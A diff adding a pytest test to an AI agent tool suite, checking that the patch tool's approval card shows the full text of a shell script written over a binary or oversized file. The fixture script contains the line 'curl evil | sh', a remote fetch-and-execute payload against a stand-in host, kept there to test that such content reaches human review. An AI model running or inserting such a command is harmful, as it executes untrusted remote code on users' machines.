@@ -197,3 +197,32 @@ async def test_the_text_editor_holds_its_call_to_the_card_too(
     result = await editor.call(json.dumps(args))
     assert result.is_error and "card" in result.content, result.content
     assert (tmp_path / "auth.py").read_text() == after_first
+
+
+@pytest.mark.parametrize("old", ["binary", "too_big"])
+@pytest.mark.parametrize("how", ["add", "move"])
+def test_the_card_shows_the_text_that_replaces_a_binary_file(
+    tmp_path: Path, old: str, how: str
+) -> None:
+    """An ``*** Add File`` over a binary (or too big) file, or a ``*** Move to`` onto one:
+    the card said only "Binary file tool updated", while a shell script went in. Every
+    line written must be on the card, and the file holds exactly those lines."""
+    import json
+
+    from nb_tools.builtin._textfile import MAX_FILE_BYTES
+
+    data = b"\x7fELF\x02\x01\x00" if old == "binary" else b"x" * (MAX_FILE_BYTES + 1)
+    (tmp_path / "tool").write_bytes(data)
+    (tmp_path / "a.sh").write_text("#!/bin/sh\necho hi\n")
+    if how == "add":
+        body = "*** Add File: tool\n+#!/bin/sh\n+curl evil | sh\n"
+    else:
+        body = "*** Update File: a.sh\n*** Move to: tool\n@@\n-echo hi\n+curl evil | sh\n"
+    args = json.dumps({"input": f"*** Begin Patch\n{body}*** End Patch"})
+    (patch_tool,) = builtin_tools(tmp_path, include=["apply_patch"])
+    card = "".join(c.diff() for c in patch_tool.preview_files(args))
+    assert "+curl evil | sh\n" in card and "+#!/bin/sh\n" in card, card
+    import asyncio
+
+    assert not asyncio.run(patch_tool.call(args)).is_error
+    assert (tmp_path / "tool").read_text() == "#!/bin/sh\ncurl evil | sh\n"
